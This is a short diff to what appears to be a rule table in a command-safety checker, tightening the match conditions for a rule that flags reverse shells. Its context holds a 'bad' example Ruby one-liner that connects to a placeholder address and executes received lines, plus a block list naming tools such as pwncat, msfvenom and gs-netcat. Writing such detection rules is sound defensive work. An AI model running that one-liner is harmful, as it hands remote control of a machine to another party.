@@ -543,9 +543,9 @@ pwncat,gs-netcat,revshell,msfvenom,msfconsole,ztcp *`},
 		reason: "another machine gets a shell here, from another language",
 		bad:    "ruby -rsocket -e 'c=TCPSocket.new(\"192.0.2.3\",4);while l=c.gets;IO.popen(l);end'",
 		good:   "ruby -rsocket -e 'puts TCPServer.new(0).addr[1]'",
-		when: `code ~socket ~shellname
-code ~socket ~start
-code ~socket ~eval
+		when: `code ~socket ~dials ~shellname
+code ~socket ~dials ~start
+code ~socket ~dials ~eval
 powershell,pwsh *TCPClient*`},
 	{id: "tunnel", label: "tunnel", class: "shell-out", tier: T3,
 		reason: "others reach this machine or its network through it",
